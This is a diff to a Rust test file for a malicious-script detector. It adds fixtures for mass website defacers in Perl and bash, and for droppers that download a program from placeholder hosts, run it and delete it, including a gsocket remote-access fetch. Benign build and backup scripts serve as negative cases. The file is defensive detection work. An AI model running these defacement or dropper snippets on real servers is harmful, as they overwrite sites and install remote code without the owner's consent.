@@ -196,7 +196,8 @@ fn mass_defacers_in_perl_and_the_shell_are_found() {
                 open(NEW, \"< $newfile\");\nforeach $f (@found) { open(FILE, \"> $f\"); print FILE <NEW>; close(FILE); }\n";
     let copier = "#!/usr/bin/perl\nuse File::Copy;\n@indexz = ('index.html', 'index.php', 'default.htm');\n\
                   opendir(D, $root) || die;\nforeach $u (readdir(D)) { foreach $i (@indexz) { cp($n, \"$root/$u/public_html/$i\"); } }\n";
-    let shell = "#!/bin/bash\nread index\nread path\nfind $path -name \"index.*\" -exec cp $index {} \\;\n";
+    let shell = "#!/bin/bash\necho '[+] your index'\nread index\necho '[+] path to deface'\nread path\n\
+                 find $path -name \"index.*\" -exec cp $index {} \\;\n";
     for src in [perl, copier, shell] {
         assert_eq!(whys(src), [Why::MassDefacer], "{src}");
     }
@@ -204,6 +205,10 @@ fn mass_defacers_in_perl_and_the_shell_are_found() {
     let backup = "#!/bin/sh\nfind /home/me/site -name '*.php' -mtime -1 -exec cp {} /home/me/backup/ \\;\n";
     let lister = "#!/usr/bin/perl\nopendir(D, '.') or die; print grep { /^index\\./ } readdir(D);\n";
     assert!(whys(backup).is_empty() && whys(lister).is_empty());
+    // The review's index builder: a site's own folder listing written into each folder.
+    let builder = "import os\nfor root, dirs, files in os.walk('public'):\n    path = os.path.join(root, 'index.html')\n\
+                   with open(path, 'w') as f:\n        f.write('<ul>' + ''.join(files) + '</ul>')\n";
+    assert!(whys(builder).is_empty());
 }
 
 #[test]
@@ -221,6 +226,15 @@ fn a_dropper_deleting_what_it_ran_and_a_remote_access_tool_are_found() {
     assert_eq!(whys(dropper), [Why::DownloadsProgram]);
     let gsocket = "#!/bin/bash\nURL=\"https://gsocket.io/bin/gs-netcat_mini-linux-x86_64\"\ncurl -SsfL \"https://gsocket.io/bin/gs-netcat_mini-linux-x86_64\" -o .php-bin\n";
     assert_eq!(whys(gsocket), [Why::DownloadsProgram]);
+    // The review's one-line dropper, and one removing with a plain `rm`.
+    let one_line = "cd /var/www; wget http://192.0.2.4/doc2; chmod +x doc2; perl doc2; rm -rf doc2\n";
+    assert_eq!(whys(one_line), [Why::DownloadsProgram]);
+    let plain_rm = "#!/bin/sh\ncurl -o upd http://payload.example/u\nchmod 755 upd\n./upd\nrm upd\n";
+    assert_eq!(whys(plain_rm), [Why::DownloadsProgram]);
+    // A build that downloads, configures and cleans up its own source folder.
+    let make = "#!/bin/sh\nwget https://ftp.gnu.org/gnu/hello/hello-2.12.tar.gz\ntar xzf hello-2.12.tar.gz\ncd hello-2.12\n\
+                ./configure\nmake\nchmod +x src/hello\ncd ..\nrm -rf hello-2.12\n";
+    assert!(whys(make).is_empty());
     // A build script downloading a tool it keeps.
     let build = "#!/bin/sh\nwget https://getcomposer.org/download/latest-stable/composer.phar\nchmod +x composer.phar\n./composer.phar install\n";
     assert!(whys(build).is_empty());
